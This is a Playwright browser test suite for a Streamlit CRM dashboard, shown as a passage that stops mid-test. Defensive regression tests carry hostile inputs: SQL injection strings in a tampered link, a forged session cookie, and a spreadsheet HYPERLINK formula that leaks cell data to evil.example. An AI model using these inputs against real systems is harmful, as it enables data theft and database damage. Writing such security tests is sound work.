"""The app in a real browser: Debian Chromium driven by Playwright against ``streamlit run``
(``tests/support/browser.py``; skipped without Chromium unless ``REQUIRE_BROWSER=1``).
"""

from __future__ import annotations

import re
import shutil
import socket
import time
from collections.abc import Iterator
from contextlib import contextmanager
from datetime import date
from pathlib import Path
from typing import Any
from urllib.parse import parse_qs, urlsplit

import pytest
import sqlalchemy as sa

from crm_data.demo import seed_demo
from crm_data.info import database_info
from tests.support.apptest import TODAY
from tests.support.browser import (
    App,
    free_port,
    open_page,
    screenshot_without_exception,
    wait_for_app_run,
)
from ui.seeding import STEP_LABELS


def test_data_page_in_chromium(
    browser: Any, sync_api: Any, xs_demo_url: str, tmp_path: Path
) -> None:
    engine = sa.create_engine(xs_demo_url)
    deals = database_info(engine).table("deals").rows
    engine.dispose()
    app = App(xs_demo_url, tmp_path / "streamlit.log")
    try:
        app.wait_healthy()
        page = open_page(browser, sync_api, f"{app.base}/data")
        screenshot_without_exception(page, "data.png")
        card = page.get_by_test_id("stMetric").filter(has_text="Deals")
        sync_api.expect(card.get_by_test_id("stMetricValue")).to_have_text(f"{deals:,}")
        sync_api.expect(page.get_by_test_id("stDataFrame")).to_have_count(2)  # tables, quality
        sync_api.expect(page.get_by_text(xs_demo_url).first).to_be_visible()
        page.close()
        home = open_page(browser, sync_api, f"{app.base}/")  # the root lands on the first page
        sync_api.expect(home).to_have_url(f"{app.base}/overview")
        sync_api.expect(home.get_by_role("heading", name="Overview", exact=True)).to_be_visible()
        home.close()
    finally:
        app.stop()


def test_error_panel_in_chromium(browser: Any, sync_api: Any, tmp_path: Path) -> None:
    app = App("postgresql+psycopg://nobody:pw@127.0.0.1:1/x", tmp_path / "streamlit.log")
    try:
        app.wait_healthy()
        page = open_page(browser, sync_api, f"{app.base}/data")
        screenshot_without_exception(page, "data-unreachable.png")
        sync_api.expect(page.get_by_text("Cannot open the CRM database")).to_be_visible()
        masked = page.get_by_text("postgresql+psycopg://nobody:***@127.0.0.1:1/x")
        sync_api.expect(masked.first).to_be_visible()
        assert "nobody:pw@" not in page.content()
        page.close()
    finally:
        app.stop()


def won_deals(url: str, start: str, end: str, owner: int | None = None) -> int:
    """Deals won in [start, end) (of ``owner``), straight from the deals table."""
    engine = sa.create_engine(url)
    sql = "SELECT count(*) FROM deals WHERE status = 'won' AND closed_at >= :s AND closed_at < :e"
    if owner is not None:
        sql += " AND owner_id = :o"
    with engine.connect() as conn:
        count = conn.execute(sa.text(sql), {"s": start, "e": end, "o": owner}).scalar_one()
    engine.dispose()
    return int(count)


def metric_value(page: Any, label: str) -> Any:
    """The value element of the metric card labelled ``label``."""
    card = page.get_by_test_id("stMetric").filter(has_text=label).first
    return card.get_by_test_id("stMetricValue")


def test_overview_and_shared_filter_links(
    browser: Any, sync_api: Any, xs_demo_url: str, tmp_path: Path
) -> None:
    expect = sync_api.expect
    year = f"{won_deals(xs_demo_url, '2025-07-01', '2026-06-30'):,}"  # last 12 months to 29 Jun
    q1 = f"{won_deals(xs_demo_url, '2026-01-01', '2026-04-01'):,}"
    app = App(xs_demo_url, tmp_path / "streamlit.log")  # holds the DuckDB lock from here on
    try:
        app.wait_healthy()
        page = open_page(browser, sync_api, f"{app.base}/overview")
        screenshot_without_exception(page, "overview.png")
        expect(metric_value(page, "Won deals")).to_have_text(year)
        # the revenue trend, the pipeline and the revenue bridge
        expect(page.get_by_test_id("stPlotlyChart")).to_have_count(3)
        page.close()

        link = f"{app.base}/?period=custom&from=2026-01-01&to=2026-03-31&compare=last_year"
        page = open_page(browser, sync_api, link)  # the root keeps the link's filters
        expect(page).to_have_url(re.compile(r"/overview\\?.*from=2026-01-01"))
        expect(metric_value(page, "Won deals")).to_have_text(q1)
        expect(page.get_by_text("1 Jan – 31 Mar 2026").first).to_be_visible()
        expect(page.get_by_text("Same period last year: 1 Jan – 31 Mar 2025").first).to_be_visible()
        shared = page.url
        page.close()

        again = open_page(browser, sync_api, shared)  # a new tab: same view
        expect(metric_value(again, "Won deals")).to_have_text(q1)
        period = again.get_by_role("combobox", name="Period")
        expect(period).to_have_value("Custom range")
        period.click()
        again.get_by_role("option", name="Last quarter").click()
        wait_for_app_run(again, sync_api)
        expect(again).to_have_url(re.compile(r"period=last_quarter"))
        expect(metric_value(again, "Won deals")).to_have_text(q1)  # last quarter = Q1 2026
        changed = again.url
        assert "from=" not in changed
        again.close()
        reopened = open_page(browser, sync_api, changed)
        expect(reopened.get_by_role("combobox", name="Period")).to_have_value("Last quarter")
        screenshot_without_exception(reopened, "overview-last-quarter.png")
        reopened.close()
    finally:
        app.stop()


@contextmanager
def oidc_app(url: str, folder: Path, rep: int, email: str) -> Iterator[tuple[App, Any]]:
    """The app in OIDC mode against a local identity provider that logs ``rep`` in."""
    from tests.support.oidc_provider import OidcProvider

    with OidcProvider() as idp:
        idp.user = {"sub": f"emp-{rep}", "email": email, "email_verified": True, "name": "Rita Rep"}
        port = free_port()
        secrets = idp.streamlit_secrets(app_port=port) + '\n[crm_auth]\nmode = "oidc"\n'
        app = App(url, folder / "streamlit.log", secrets=secrets, port=port)
        try:
            app.wait_healthy()
            yield app, idp
        finally:
            app.stop()


def test_oidc_login_and_a_tampered_link(
    browser: Any, sync_api: Any, xs_demo_url: str, tmp_path: Path
) -> None:
    expect = sync_api.expect
    engine = sa.create_engine(xs_demo_url)
    with engine.connect() as conn:
        rep, email, team = conn.execute(
            sa.text("SELECT id, email, team_id FROM employees WHERE role = 'rep' ORDER BY id")
        ).first()
        other = conn.execute(
            sa.text("SELECT min(id) FROM employees WHERE role = 'rep' AND team_id <> :t"),
            {"t": team},
        ).scalar_one()
    engine.dispose()
    own = f"{won_deals(xs_demo_url, '2025-07-01', '2026-06-30', owner=rep):,}"
    with oidc_app(xs_demo_url, tmp_path, rep, email) as (app, idp):
        page = open_page(browser, sync_api, f"{app.base}/overview")
        screenshot_without_exception(page, "login.png")
        assert page.get_by_test_id("stMetric").count() == 0  # nothing before the login
        page.get_by_role("button", name="Log in").click()
        wait_for_app_run(page, sync_api)
        expect(metric_value(page, "Won deals")).to_have_text(own, timeout=60_000)
        assert idp.logins == 1
        expect(page.get_by_text("Sales rep").first).to_be_visible()
        assert page.get_by_role("link", name="Data").count() == 0  # not a rep's page

        tampered = (
            f"{app.base}/overview?rep={other}&team=1%20OR%201%3D1&period=custom"
            "&from=garbage&to=2026-01-31&region=x%27%3B%20DROP%20TABLE%20deals%3B--"
        )
        page.goto(tampered)
        wait_for_app_run(page, sync_api)
        expect(metric_value(page, "Won deals")).to_have_text(own)
        expect(page.get_by_text(f"rep={other} is not a rep you can see")).to_be_visible()
        screenshot_without_exception(page, "overview-tampered-link.png")
        page.goto(f"{app.base}/data")  # not registered for a rep: lands on the overview
        wait_for_app_run(page, sync_api)
        expect(page.get_by_role("heading", name="Overview", exact=True)).to_be_visible()
        page.close()


def test_oidc_login_reopens_the_shared_link(
    browser: Any, sync_api: Any, xs_demo_url: str, tmp_path: Path
) -> None:
    """A link with a page and filters, opened before the login, is where the user lands after
    the identity provider sends the browser back to the app's root."""
    expect = sync_api.expect
    engine = sa.create_engine(xs_demo_url)
    with engine.connect() as conn:
        rep, email = conn.execute(
            sa.text("SELECT id, email FROM employees WHERE role = 'rep' ORDER BY id")
        ).first()
    engine.dispose()
    link = "/funnel?period=last_quarter&funnel=strict"
    with oidc_app(xs_demo_url, tmp_path, rep, email) as (app, idp):
        page = open_page(browser, sync_api, f"{app.base}{link}")
        page.get_by_role("button", name="Log in").click()
        expect(page.get_by_role("heading", name="Funnel", exact=True)).to_be_visible(timeout=60_000)
        wait_for_app_run(page, sync_api)
        assert idp.logins == 1
        landed = urlsplit(page.url)  # page, period and variant kept
        assert landed.path == "/funnel"
        assert parse_qs(landed.query) == {"period": ["last_quarter"], "funnel": ["strict"]}
        expect(page.get_by_text("1 Jan – 31 Mar 2026").first).to_be_visible()  # last quarter
        strict = page.get_by_role("radio", name="Strict (every stage in order)")
        expect(strict).to_be_checked()
        expect(
            page.get_by_text(re.compile(r"Deals reaching each stage.*\(strict;"))
        ).to_be_visible()
        screenshot_without_exception(page, "oidc-link-after-login.png")
        # a later visit to the root lands on the Overview: the link is used once
        page.goto(f"{app.base}/")
        wait_for_app_run(page, sync_api)
        expect(page.get_by_role("heading", name="Overview", exact=True)).to_be_visible()
        page.close()


def first_employee(url: str, sql: str) -> tuple[int, str]:
    """(id, e-mail) of the first row of ``sql``."""
    engine = sa.create_engine(url)
    with engine.connect() as conn:
        row = conn.execute(sa.text(sql)).first()
    engine.dispose()
    return int(row[0]), str(row[1])


def log_in_as(page: Any, sync_api: Any, idp: Any, claims: dict[str, Any]) -> None:
    """Log in through the identity provider as ``claims`` (from the login screen)."""
    idp.user = claims
    page.get_by_role("button", name="Log in").click()
    sync_api.expect(page.get_by_role("button", name="Log out")).to_be_visible(timeout=60_000)
    wait_for_app_run(page, sync_api)


def log_out(page: Any, sync_api: Any) -> None:
    """Log out (through the identity provider) back to the login screen."""
    page.get_by_role("button", name="Log out").click()
    sync_api.expect(page.get_by_role("button", name="Log in")).to_be_visible(timeout=60_000)
    wait_for_app_run(page, sync_api)


def test_oidc_refuses_unverified_emails_and_role_claims_in_chromium(
    browser: Any, sync_api: Any, xs_demo_url: str, tmp_path: Path
) -> None:
    """Through a real identity provider: a head's e-mail with ``email_verified: false``, a
    stranger and a rep whose tokens say ``roles: ["admin"]`` (before issue #14: the head, an
    admin, an admin)."""
    expect = sync_api.expect
    head = first_employee(
        xs_demo_url, "SELECT e.id, e.email FROM teams t JOIN employees e ON e.id = t.head_id"
    )
    rep = first_employee(
        xs_demo_url, "SELECT id, email FROM employees WHERE role = 'rep' ORDER BY id"
    )
    with oidc_app(xs_demo_url, tmp_path, *rep) as (app, idp):
        page = open_page(browser, sync_api, f"{app.base}/overview")
        log_in_as(page, sync_api, idp, {"email": head[1], "email_verified": False, "name": "M"})
        expect(page.get_by_text("so it cannot be used to log in")).to_be_visible()
        assert page.get_by_test_id("stMetric").count() == 0
        screenshot_without_exception(page, "oidc-unverified-email.png")
        log_out(page, sync_api)

        stranger = {"email": "mallory@evil.example", "email_verified": True, "roles": ["admin"]}
        log_in_as(page, sync_api, idp, stranger)
        expect(page.get_by_text("has no access to the dashboard")).to_be_visible()
        assert page.get_by_test_id("stMetric").count() == 0
        log_out(page, sync_api)

        log_in_as(page, sync_api, idp, {"email": rep[1], "email_verified": True,
                                         "name": "Rita Rep", "roles": ["admin"]})  # fmt: skip
        expect(page.get_by_text("Sales rep").first).to_be_visible()
        expect(page.get_by_text("Preview as")).to_have_count(0)  # an admin's box
        assert page.get_by_role("link", name="Data").count() == 0
        assert idp.logins == 3
        page.close()


def test_a_cookie_forged_with_the_example_secret_is_refused(
    browser: Any, sync_api: Any, xs_demo_url: str, tmp_path: Path
) -> None:
    """With the example's ``cookie_secret`` a ``_streamlit_user`` cookie signed by anyone
    logged in as an executive without any identity provider (before issue #14); now the app
    refuses to start and says how to make a secret."""
    from tests.support.oidc_provider import OidcProvider, example_cookie_secret, forge_user_cookie

    expect = sync_api.expect
    exec_email = first_employee(
        xs_demo_url, "SELECT id, email FROM employees WHERE role = 'exec' ORDER BY id"
    )[1]
    secret = example_cookie_secret()
    with OidcProvider() as idp:  # configured, never used
        port = free_port()
        secrets = idp.streamlit_secrets(app_port=port, cookie_secret=secret)
        app = App(xs_demo_url, tmp_path / "streamlit.log",
                  secrets=secrets + '\n[crm_auth]\nmode = "oidc"\n', port=port)  # fmt: skip
        try:
            app.wait_healthy()
            context = browser.new_context(viewport={"width": 1400, "height": 900})
            claims = {"email": exec_email, "email_verified": True, "name": "Forged Exec"}
            forged = forge_user_cookie(secret, app.base, claims)
            context.add_cookies([{"name": "_streamlit_user", "value": forged, "url": app.base}])
            page = context.new_page()
            page.goto(f"{app.base}/overview", timeout=60_000)
            wait_for_app_run(page, sync_api)
            expect(page.get_by_text("The dashboard does not start")).to_be_visible()
            expect(page.get_by_text("secrets.token_urlsafe(48)")).to_be_visible()
            screenshot_without_exception(page, "oidc-example-secret.png")
            assert page.get_by_test_id("stMetric").count() == 0
            assert page.get_by_text("Executive").count() == 0
            assert page.get_by_text("Forged Exec").count() == 0
            assert idp.logins == 0
            context.close()
        finally:
            app.stop()


def default_report(url: str, report: Any) -> Any:
    """``report(engine, filters, everyone)`` for the app's default filters (the last 12 months
    before ``TODAY``), computed before the app opens the DuckDB file (it takes the lock)."""
    from crm_data.filters import Scope
    from ui.url_filters import Selection, build_filters

    filters, _ = build_filters(Selection(), TODAY)
    engine = sa.create_engine(url)
    try:
        return report(engine, filters, Scope.everyone())
    finally:
        engine.dispose()


def test_funnel_page_in_chromium(
    browser: Any, sync_api: Any, xs_demo_url: str, tmp_path: Path
) -> None:
    from reports.funnel import funnel_report

    expect = sync_api.expect
    report = default_report(xs_demo_url, funnel_report)
    app = App(xs_demo_url, tmp_path / "streamlit.log")
    try:
        app.wait_healthy()
        page = open_page(browser, sync_api, f"{app.base}/funnel")
        expect(page.get_by_role("heading", name="Funnel", exact=True)).to_be_visible()
        expect(metric_value(page, "New deals")).to_have_text(f"{report.cohort:,}")
        screenshot_without_exception(page, "funnel.png")
        tabs = {  # each tab and something only its panel shows
            "Time in stage": page.get_by_text("Kaplan–Meier estimate over every visit"),
            f"Stuck deals ({report.stuck_count:,})": page.get_by_text(
                "Open deals at the period end longer in their stage"
            ),
            "Lost reasons": page.get_by_text("Where and why deals were lost"),
            "Pipeline change": page.get_by_text("Stage moves", exact=False),
            "Stage flow": page.get_by_text("How the period's new deals moved"),
        }
        for name, content in tabs.items():
            page.get_by_role("tab", name=name, exact=True).click()
            expect(page.get_by_role("tab", name=name, exact=True)).to_have_attribute(
                "aria-selected", "true"
            )
            expect(content).to_be_visible()
            assert page.locator("[data-testid='stException']").count() == 0, name
        sankey = page.locator("[data-testid='stPlotlyChart'] .sankey")
        expect(sankey).to_have_count(1)
        sankey.scroll_into_view_if_needed()  # the app scrolls inside its own container
        screenshot_without_exception(page, "funnel-flow.png")

        variants = page.get_by_role("radiogroup", name="Count a deal at a stage when")
        expect(variants.get_by_role("radio", name="High-water mark")).to_be_checked()
        strict = variants.get_by_role("radio", name="Strict (every stage in order)")
        strict.click()
        wait_for_app_run(page, sync_api)
        expect(strict).to_be_checked()
        expect(page).to_have_url(re.compile(r"/funnel\?(.*&)?funnel=strict"))
        heading = page.get_by_text(re.compile(r"Deals reaching each stage.*\(strict;"))
        expect(heading).to_be_visible()
        assert page.locator("[data-testid='stException']").count() == 0
        page.close()
    finally:
        app.stop()


def test_activity_and_incentives_pages_in_chromium(
    browser: Any, sync_api: Any, xs_demo_url: str, tmp_path: Path
) -> None:
    from reports.activity import activity_report

    expect = sync_api.expect
    report = default_report(xs_demo_url, activity_report)
    app = App(xs_demo_url, tmp_path / "streamlit.log")
    try:
        app.wait_healthy()
        page = open_page(browser, sync_api, f"{app.base}/activity")
        expect(page.get_by_role("heading", name="Activity", exact=True)).to_be_visible()
        done = report.kpi("activities_done").value
        expect(metric_value(page, "Activities done")).to_have_text(f"{done:,.0f}")
        screenshot_without_exception(page, "activity.png")
        page.get_by_role("tab", name="Negotiations", exact=True).click()
        expect(page.get_by_text("Open deals at the end of the period by stage")).to_be_visible()
        assert page.locator("[data-testid='stException']").count() == 0

        page = open_page(browser, sync_api, f"{app.base}/incentives")
        expect(page.get_by_role("heading", name="Incentives", exact=True)).to_be_visible()
        plan = page.get_by_role("combobox", name="Plan", exact=True)  # the demo's plans
        expect(plan).to_have_value(re.compile(r"Sales Q2 2026 · 01 Apr 2026 – 30 Jun 2026$"))
        expect(page.get_by_text("Team distribution of scores")).to_be_visible()
        screenshot_without_exception(page, "incentives.png")
    finally:
        app.stop()


def edit_cell(page: Any, x: float, y: float, text: str) -> None:
    """Type ``text`` into the data editor's cell at page position (``x``, ``y``) and commit it:
    a double click opens the cell's editor (the first click after a dropdown closes may only
    end the previous edit, so it is repeated until the editor opens)."""
    editor = page.locator("#portal input").first
    for _ in range(3):
        page.mouse.dblclick(x, y)
        try:
            editor.wait_for(timeout=3_000)
            break
        except Exception:  # not open yet: click again
            continue
    editor.fill(text)
    editor.press("Enter")
    editor.wait_for(state="detached")


def test_a_plan_created_in_the_editor_shows_its_scorecards(
    browser: Any, sync_api: Any, xs_demo_url: str, tmp_path: Path
) -> None:
    """On a seeded CRM without any plan (no longer marked as a demo, so the app makes no demo
    plan) and an app database of its own: add a row, pick the metric, type weight and target,
    save; the plan's scorecards show, a rep each."""
    from appdb.databases import Databases
    from appdb.plans import list_plans, load_plan
    from crm_data.filters import Scope

    expect = sync_api.expect
    url = f"duckdb:///{tmp_path / 'no_plans.duckdb'}"
    app_url = f"sqlite:///{tmp_path / 'app.sqlite'}"
    shutil.copy(xs_demo_url.removeprefix("duckdb:///"), tmp_path / "no_plans.duckdb")
    engine = sa.create_engine(url)
    with engine.begin() as conn:
        conn.execute(sa.text("DELETE FROM demo_truth"))
    with engine.connect() as conn:  # the reps a company-wide Q2 2026 plan scores
        reps = conn.execute(
            sa.text("SELECT count(*) FROM employees WHERE role = 'rep' "
                    "AND (left_at IS NULL OR left_at >= '2026-04-01')")
        ).scalar_one()  # fmt: skip
    engine.dispose()
    app = App(url, tmp_path / "streamlit.log", env={"CRM_APP_DATABASE_URL": app_url})
    try:
        app.wait_healthy()
        page = open_page(browser, sync_api, f"{app.base}/incentives")
        expect(page.get_by_text("No incentive plan yet.")).to_be_visible()
        items = page.get_by_test_id("stDataFrame").first
        items.hover()
        page.get_by_role("button", name="Add row").click()
        box = items.bounding_box()
        row = box["y"] + 35 + 17  # the first row, under the header (35 px each)
        edit_cell(page, box["x"] + 84, row, "Won deals")  # Metric: a choice of labels
        edit_cell(page, box["x"] + 194, row, "100")  # Weight %
        edit_cell(page, box["x"] + 304, row, "12")  # Target
        screenshot_without_exception(page, "incentives-new-plan.png")
        page.wait_for_timeout(500)  # the editor sends its edits 150 ms after the last one
        page.get_by_role("button", name="Save plan").click()
        wait_for_app_run(page, sync_api)
        expect(page.get_by_role("combobox", name="Plan", exact=True)).to_have_value(
            "New plan · 01 Apr 2026 – 30 Jun 2026")  # fmt: skip
        expect(page.get_by_text("Team distribution of scores")).to_be_visible()
        steps = page.get_by_text(re.compile(r"What it takes .+ to reach the next step"))
        expect(steps).to_be_visible()
        page.get_by_role("combobox", name="Scorecard of").click()
        expect(page.get_by_role("option")).to_have_count(reps)  # a scorecard per rep
        page.keyboard.press("Escape")
        screenshot_without_exception(page, "incentives-new-plan-saved.png")
        page.close()
    finally:
        app.stop()
    databases = Databases(app=sa.create_engine(app_url), crm=sa.create_engine(url))
    (key,) = list_plans(databases, Scope.everyone())["plan_key"]
    saved = load_plan(databases, Scope.everyone(), key)
    databases.app.dispose()
    databases.crm.dispose()
    assert [(i.metric_key, i.weight, i.target, i.threshold) for i in saved.items] == [
        ("won_deals", 1.0, 12.0, 0.0)]  # fmt: skip


#: The title, value and delta of every visible metric card whose text an element cuts ("…").
CUT_TEXTS = """() => [...document.querySelectorAll(
    "[data-testid='stMetricLabel'], [data-testid='stMetricValue'], [data-testid='stMetricDelta']")]
  .filter(part => part.offsetParent !== null)
  .filter(part => [part, ...part.querySelectorAll("*")].some(e =>
    e.scrollWidth > e.clientWidth + 1 && getComputedStyle(e).overflow !== "visible"))
  .map(part => part.innerText)"""


def test_kpi_cards_are_never_cut_off(
    browser: Any, sync_api: Any, xs_demo_url: str, tmp_path: Path
) -> None:
    app = App(xs_demo_url, tmp_path / "streamlit.log")
    try:
        app.wait_healthy()
        for path in ("overview", "funnel", "activity"):
            page = open_page(browser, sync_api, f"{app.base}/{path}")
            for width in (1400, 1100):  # Streamlit's default: one line each, cut with "…"
                page.set_viewport_size({"width": width, "height": 1500})
                cards = page.get_by_test_id("stMetric").filter(visible=True)
                sync_api.expect(cards.first).to_be_visible()
                assert cards.count() >= 9, path
                assert page.evaluate(CUT_TEXTS) == [], (path, width)
                screenshot_without_exception(page, f"{path}-cards-{width}.png")
            page.close()
    finally:
        app.stop()


def test_first_start_shows_words_not_file_or_table_names(
    browser: Any, sync_api: Any, tmp_path: Path
) -> None:
    expect = sync_api.expect
    # the first-start seeding left on (size M: it lasts long enough to look at)
    app = App(f"duckdb:///{tmp_path / 'new.duckdb'}", tmp_path / "streamlit.log",
              env={"CRM_AUTO_SEED": "1", "CRM_DEMO_SIZE": "M"})  # fmt: skip
    try:
        app.wait_healthy()
        page = browser.new_page(viewport={"width": 1400, "height": 1000})
        page.goto(f"{app.base}/overview", timeout=60_000)
        expect(page.get_by_text("First start: creating a demo company (size M)")).to_be_visible(
            timeout=60_000
        )
        bar = page.get_by_test_id("stProgress")
        expect(bar).to_be_visible()
        step = bar.inner_text().strip()
        screenshot_without_exception(page, "first-start-seeding.png")
        # while seeding: no sidebar listing "app", "overview", ... (the files of pages/),
        # and the step in words ("Saving the deals…"), not a table name ("deal_stage_history")
        expect(page.get_by_test_id("stSidebarNav")).to_have_count(0)
        assert step.removesuffix("…") in STEP_LABELS.values() or step.startswith("Seeding"), step
        # then the app as usual: the registered pages, the Overview with the demo's numbers
        expect(page.get_by_role("heading", name="Overview", exact=True)).to_be_visible(
            timeout=240_000
        )
        wait_for_app_run(page, sync_api)
        nav = page.get_by_test_id("stSidebarNav")
        expect(nav.get_by_role("link", name="Funnel", exact=True)).to_be_visible()
        expect(nav.get_by_text("app", exact=True)).to_have_count(0)
        screenshot_without_exception(page, "first-start-done.png")
        page.close()
    finally:
        app.stop()


def test_password_login_lasts_across_reloads_and_tabs_until_disabled(
    browser: Any, sync_api: Any, tmp_path: Path
) -> None:
    """Issue #14 item 3: a refresh and a new tab stay logged in (the signed cookie), and
    ``users disable`` logs the open tab out at the next re-check (1 s here)."""
    import secrets

    from appdb import upgrade
    from appdb.databases import Databases
    from appdb.users import COMMAND_LINE, add_user, set_active

    expect = sync_api.expect
    url = f"sqlite:///{tmp_path / 'xs.sqlite'}"
    app_url = f"sqlite:///{tmp_path / 'app.sqlite'}"  # the test writes while the app runs
    engine = Databases(app=sa.create_engine(app_url), crm=sa.create_engine(url))
    seed_demo(engine.crm, size="XS", seed=42, end=date(2026, 6, 30))
    upgrade(engine.app)
    add_user(engine, "eva@example.com", "exec", actor=COMMAND_LINE, password="correct horse")
    secret = secrets.token_urlsafe(48)
    settings = f'[crm_auth]\nmode = "password"\nsession_secret = "{secret}"\nrecheck_seconds = 1\n'
    app = App(url, tmp_path / "streamlit.log", secrets=settings,
              env={"CRM_APP_DATABASE_URL": app_url})  # fmt: skip
    try:
        app.wait_healthy()
        context = browser.new_context(viewport={"width": 1400, "height": 1000})
        page = context.new_page()
        page.goto(f"{app.base}/overview", timeout=60_000)
        wait_for_app_run(page, sync_api)
        page.get_by_role("textbox", name="E-mail").fill("eva@example.com")
        page.get_by_role("textbox", name="Password").fill("correct horse")
        page.get_by_role("button", name="Log in").click()
        logged_in = page.get_by_text("eva@example.com · Executive")
        expect(logged_in).to_be_visible(timeout=60_000)
        wait_for_app_run(page, sync_api)
        (cookie,) = [c for c in context.cookies() if c["name"] == "crm_session"]
        assert (cookie["path"], cookie["sameSite"], cookie["secure"]) == ("/", "Strict", False)
        assert cookie["value"].startswith("s1.") and "eva" not in cookie["value"]
        assert secret not in cookie["value"] and "exec" not in cookie["value"]

        page.reload()  # a refresh: still logged in, no password asked
        wait_for_app_run(page, sync_api)
        expect(page.get_by_text("eva@example.com · Executive")).to_be_visible()
        expect(metric_value(page, "Won deals")).to_be_visible()
        tab = context.new_page()  # a new tab of the same browser
        tab.goto(f"{app.base}/funnel", timeout=60_000)
        wait_for_app_run(tab, sync_api)
        expect(tab.get_by_role("heading", name="Funnel", exact=True)).to_be_visible()
        expect(tab.get_by_text("eva@example.com · Executive")).to_be_visible()
        screenshot_without_exception(tab, "session-new-tab.png")

        set_active(engine, "eva@example.com", False, actor=COMMAND_LINE)  # `users disable`
        time.sleep(1.5)  # past the re-check interval
        page.get_by_test_id("stSidebarNav").get_by_role("link", name="Funnel").click()
        expect(page.get_by_text("Your login has ended")).to_be_visible(timeout=60_000)
        expect(page.get_by_role("textbox", name="Password")).to_be_visible()
        assert page.get_by_test_id("stMetric").count() == 0
        screenshot_without_exception(page, "session-ended.png")
        tab.reload()  # the cookie is gone (and revoked): the new tab asks for the password too
        wait_for_app_run(tab, sync_api)
        expect(tab.get_by_role("textbox", name="Password")).to_be_visible()
        assert [c for c in context.cookies() if c["name"] == "crm_session"] == []
        context.close()
    finally:
        app.stop()
        engine.app.dispose()
        engine.crm.dispose()


def test_exported_call_lists_carry_no_formula_in_chromium(
    browser: Any, sync_api: Any, xs_demo_url: str, tmp_path: Path
) -> None:
    """Issue #14 item 6: an account named like a formula, downloaded as Excel and CSV from the
    Overview's largest won deals (before: a live HYPERLINK in Excel, ``=`` as is in CSV)."""
    import csv
    import io

    import openpyxl

    expect = sync_api.expect
    hostile = '=HYPERLINK("http://evil.example/?leak="&B2,"Acme")'
    copy = tmp_path / "hostile.duckdb"
    shutil.copy(xs_demo_url.removeprefix("duckdb:///"), copy)
    engine = sa.create_engine(f"duckdb:///{copy}")
    with engine.begin() as conn:  # the account of the largest deal won in the last 12 months
        account = conn.execute(
            sa.text("SELECT account_id FROM deals WHERE status = 'won' AND closed_at >= "
                    "'2025-07-01' AND closed_at < '2026-06-30' ORDER BY amount DESC, id LIMIT 1")
        ).scalar_one()  # fmt: skip
        conn.execute(sa.text("UPDATE accounts SET name = :n WHERE id = :a"),
                     {"n": hostile, "a": account})  # fmt: skip
    engine.dispose()
    app = App(f"duckdb:///{copy}", tmp_path / "streamlit.log")
    try:
        app.wait_healthy()
        page = open_page(browser, sync_api, f"{app.base}/overview")
        downloads = page.get_by_test_id("stDownloadButton")
        with page.expect_download() as excel:
            downloads.filter(has_text="Excel").first.click()
        book = openpyxl.load_workbook(io.BytesIO(Path(excel.value.path()).read_bytes()))
        cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
        assert all(cell.data_type != "f" for cell in cells)
        (name,) = [c for c in cells if c.value == hostile]  # kept as text, marked as text
        assert name.data_type == "s" and name.quotePrefix
        with page.expect_download() as text:
            downloads.filter(has_text="CSV").first.click()
        lines = Path(text.value.path()).read_text(encoding="utf-8").splitlines()
        values = {cell for row in csv.reader(lines) for cell in row}
        assert f"'{hostile}" in values and hostile not in values
        # the table's own toolbar offers no CSV of its own (it would write the formula as is)
        page.get_by_test_id("stDataFrame").first.hover()
        expect(page.get_by_test_id("stElementToolbar").first).to_be_visible()
        assert page.get_by_role("button", name="Download as CSV").count() == 0
        page.close()
    finally:
        app.stop()


def test_before_the_login_a_database_error_names_nothing_in_chromium(
    browser: Any, sync_api: Any, tmp_path: Path
) -> None:
    """Issue #14 item 5: password mode, the database unreachable: the login page says so in
    general words (before: the URL with the password of its query, and the driver's words)."""
    import secrets

    expect = sync_api.expect
    settings = f'[crm_auth]\nmode = "password"\nsession_secret = "{secrets.token_urlsafe(48)}"\n'
    app = App("postgresql+psycopg://nobody@127.0.0.1:1/crmdb?password=s3cretpw",
              tmp_path / "streamlit.log", secrets=settings)  # fmt: skip
    try:
        app.wait_healthy()
        page = open_page(browser, sync_api, f"{app.base}/data")
        expect(page.get_by_text("The dashboard cannot reach its database.")).to_be_visible()
        expect(page.get_by_role("button", name="Retry")).to_be_visible()
        expect(page.get_by_test_id("stSidebarNav")).to_have_count(0)  # no page names either
        content = page.content()
        for detail in ("crmdb", "s3cretpw", "nobody", "127.0.0.1:1", "refused", "CRM_DATABASE"):
            assert detail not in content, detail
        screenshot_without_exception(page, "database-error-before-login.png")
        page.close()
    finally:
        app.stop()
    log = app.log.read_text()  # where the administrator reads what happened
    assert "postgresql+psycopg://nobody@127.0.0.1:1/crmdb?password=***: " in log
    assert "s3cretpw" not in log


def network_address() -> str | None:
    """This computer's address on its network (as another computer sees it), if it has one:
    the source address of a route out (a UDP "connection" sends nothing)."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
        try:
            probe.connect(("192.0.2.1", 9))  # TEST-NET-1: never answered, only routed
        except OSError:
            return None
        address = str(probe.getsockname()[0])
    return None if address.startswith("127.") else address


def test_local_mode_serves_this_computer_only_in_chromium(
    browser: Any, sync_api: Any, xs_demo_url: str, tmp_path: Path
) -> None:
    """Issue #14 item 9: in auth mode none (everyone is an admin) the dashboard refuses a server
    listening on every address, another computer and a request through a proxy."""
    expect = sync_api.expect
    here = network_address()
    if here is None:
        pytest.skip("this computer has no address but a loopback one")
    app = App(xs_demo_url, tmp_path / "everywhere.log", address="0.0.0.0")
    try:
        app.wait_healthy()
        page = open_page(browser, sync_api, f"{app.base}/overview")
        expect(page.get_by_text("Local mode serves this computer only.")).to_be_visible()
        expect(page.get_by_text("CRM_ALLOW_REMOTE_NONE=1")).to_be_visible()
        expect(page.get_by_test_id("stSidebarNav")).to_have_count(0)  # no page list either
        assert page.get_by_test_id("stMetric").count() == 0
        screenshot_without_exception(page, "local-mode-refused.png")
        page.close()
        page = open_page(browser, sync_api, f"http://{here}:{app.port}/overview")
        refusal = page.get_by_text("This dashboard opens only on the computer it runs on.")
        expect(refusal).to_be_visible()
        assert "CRM_ALLOW_REMOTE_NONE" not in page.content()  # the visitor learns nothing more
        assert page.get_by_test_id("stMetric").count() == 0
        page.close()
    finally:
        app.stop()
    assert "refused a request: the server is set to listen on 0.0.0.0" in app.log.read_text()

    app = App(xs_demo_url, tmp_path / "local.log")  # 127.0.0.1, as .streamlit/config.toml says
    try:
        app.wait_healthy()
        page = open_page(browser, sync_api, f"{app.base}/overview")
        expect(page.get_by_text("Local mode: only this computer can open")).to_be_visible()
        expect(metric_value(page, "Won deals")).to_be_visible()
        page.close()
